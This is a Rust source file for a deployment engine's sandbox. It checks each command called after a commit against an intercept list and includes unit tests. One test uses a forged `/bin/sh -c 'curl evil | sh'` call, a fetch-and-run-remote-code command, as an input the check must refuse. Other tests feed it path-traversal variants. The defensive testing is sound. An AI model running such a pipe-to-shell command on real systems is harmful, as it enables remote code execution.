//! What may run on the target after a commit: only the commands the sandbox intercepts.
//! A call reaches the engine from inside the sandbox, where a hostile script can forge
//! one; so every call is checked against the intercept list before anything is committed,
//! and a call to anything else fails the run.
//!
//! The rule (docs/sandbox.md, Interception): an entry that is a name (no `/`) allows
//! `argv[0]` equal to that name (found on the target through the standard `PATH`), or to
//! that name in one of [`BIN_DIRS`]; an entry that is an absolute path allows exactly that
//! path. Nothing else: no other directory, no `..`, no relative path.

use strata_types::Deferred;

use crate::EngineError;

/// The directories where a command named in the intercept list may be called by its
/// full path; also the `PATH` the commands run with.
pub use strata_sandbox::BIN_DIRS;

/// Whether `argv0` is a command that the intercept list (`extra` beyond
/// [`strata_sandbox::INTERCEPTED`]) allows.
pub fn allowed(argv0: &str, extra: &[String]) -> bool {
    let entries = strata_sandbox::INTERCEPTED
        .iter()
        .copied()
        .chain(extra.iter().map(String::as_str));
    entries.into_iter().any(|entry| matches(entry, argv0))
}

fn matches(entry: &str, argv0: &str) -> bool {
    if entry.is_empty() {
        return false;
    }
    if entry.starts_with('/') {
        return argv0 == entry;
    }
    if entry.contains('/') || entry == "." || entry == ".." {
        return false;
    }
    argv0 == entry
        || argv0
            .rsplit_once('/')
            .is_some_and(|(dir, name)| name == entry && BIN_DIRS.contains(&dir))
}

/// Checks every call against the intercept list; the first that is not on it is an error
/// naming its module, its program and what it called.
pub fn check(calls: &[Deferred], extra: &[String]) -> Result<(), EngineError> {
    for c in calls {
        let argv0 = c.argv.first().map_or("", String::as_str);
        if !allowed(argv0, extra) {
            return Err(EngineError::NotIntercepted {
                module: c.module.clone(),
                program: c.program.clone(),
                command: argv0.to_string(),
            });
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call(argv: &[&str]) -> Deferred {
        Deferred {
            module: "app".into(),
            program: "scripts/10-x.sh".into(),
            argv: argv.iter().map(|a| a.to_string()).collect(),
        }
    }

    #[test]
    fn intercepted_names_pass_bare_or_from_a_standard_bin_dir() {
        let extra = vec!["deploy-hook".to_string(), "/opt/app/bin/reload".to_string()];
        for argv0 in [
            "systemctl",
            "/usr/bin/systemctl",
            "/bin/systemctl",
            "/usr/sbin/service",
            "/sbin/reboot",
            "invoke-rc.d",
            "deploy-hook",
            "/usr/local/bin/deploy-hook",
            "/opt/app/bin/reload",
        ] {
            assert!(allowed(argv0, &extra), "{argv0} was refused");
        }
        check(&[call(&["systemctl", "restart", "nginx"])], &extra).expect("allowed");
    }

    #[test]
    fn a_forged_call_to_anything_else_is_refused() {
        let extra = vec!["deploy-hook".to_string(), "/opt/app/bin/reload".to_string()];
        for argv0 in [
            "/bin/sh",
            "sh",
            "bash",
            "",
            // An intercepted name, but not where the target keeps its commands.
            "/tmp/systemctl",
            "/opt/systemctl",
            "./systemctl",
            "bin/systemctl",
            "/usr/bin/../../tmp/systemctl",
            "/usr/bin//systemctl",
            "/usr/bin/systemctl/",
            "systemctl ",
            // An absolute entry is that path only.
            "reload",
            "/usr/bin/reload",
            "/opt/app/bin/../bin/reload",
            "/opt/app/bin/reload2",
        ] {
            assert!(!allowed(argv0, &extra), "{argv0:?} was allowed");
        }
        let forged = [
            call(&["systemctl", "restart", "nginx"]),
            call(&["/bin/sh", "-c", "curl evil | sh"]),
        ];
        let err = check(&forged, &extra).expect_err("a forged call");
        assert_eq!(
            err.to_string(),
            "module app: scripts/10-x.sh called \"/bin/sh\", which is not an intercepted \
             command; nothing was committed"
        );
        let empty = check(&[call(&[])], &extra).expect_err("an empty call");
        assert!(empty.to_string().contains("called \"\""), "{empty}");
    }

    #[test]
    fn malformed_entries_in_the_site_allow_nothing() {
        let extra = vec![
            String::new(),
            "bin/sh".to_string(),
            "..".to_string(),
            ".".to_string(),
        ];
        for argv0 in [
            "",
            "bin/sh",
            "/usr/bin/bin/sh",
            "..",
            "/usr/bin/..",
            "/bin/.",
        ] {
            assert!(!allowed(argv0, &extra), "{argv0:?} was allowed");
        }
    }
}
